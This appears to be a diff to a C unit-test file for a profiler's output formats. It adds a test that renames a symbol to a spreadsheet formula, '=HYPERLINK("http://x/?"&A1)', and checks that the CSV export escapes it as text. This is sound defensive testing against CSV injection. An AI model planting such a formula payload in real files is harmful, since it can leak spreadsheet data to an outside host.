@@ -8,7 +8,8 @@
  * tabs of their own lines) and the name stays on its line: the names are
  * shown with '?' there. Folded stacks (heap and CPU) have one line per
  * stack, "root;frames VALUE", whatever the program's name. The page of
- * `ltr report` keeps the names inside its JSON data.
+ * `ltr report` keeps the names inside its JSON data. A function named like a
+ * spreadsheet formula is text in the CSV export.
  */
 #include <setjmp.h>
 #include <stdarg.h>
@@ -134,12 +135,39 @@ static void test_report_page(void **state)
     tu_free(&r);
 }
 
+/* A function named as a spreadsheet formula (the demo's remember_session
+ * renamed "=HYPERLINK(...)" in a copy without debug info): ltr export's CSV
+ * holds it as text, "'=HYPERLINK(...)", in no cell a formula. */
+static void test_csv_formula(void **state)
+{
+    const char *box = *state;
+    tu_result r = tu_run("cd %s && cp %s/libleaky-plugin.so . && objcopy --strip-debug %s/leaky f && "
+                         "sym=$(nm f | awk '$3 ~ /^remember_session/ {print $3; exit}') && "
+                         "objcopy --redefine-sym \"$sym\"'==HYPERLINK(\"http://x/?\"&A1)' f formula && "
+                         "%s record -o f.ltr -- ./formula >/dev/null && %s export f.ltr --format csv -o f.csv",
+                         box, tu_demo_dir(), tu_demo_dir(), LTR, LTR);
+    tu_expect_ok(r);
+    static const char check[] =
+        "import csv, sys\n"
+        "rows = list(csv.reader(open(sys.argv[1], newline='')))\n"
+        "bad = [c for row in rows for c in row if c[:1] in ('=', '+', '-', '@', '\\t', '\\r')]\n"
+        "text = [c for row in rows for c in row if c.startswith(\"'=HYPERLINK(\")]\n"
+        "print('formulas=%d texts=%d' % (len(bad), len(text)))\n";
+    tu_write_file(box, "csvcheck.py", check);
+    r = tu_run("cd %s && python3 csvcheck.py f.csv", box);
+    assert_int_equal(r.status, 0);
+    if (!strstr(r.out, "formulas=0 ") || strstr(r.out, "texts=0\n"))
+        fail_msg("%s", r.out);
+    tu_free(&r);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_text_outputs),
         cmocka_unit_test(test_folded),
         cmocka_unit_test(test_report_page),
+        cmocka_unit_test(test_csv_formula),
     };
     return cmocka_run_group_tests(tests, record, tu_teardown_sandbox);
 }
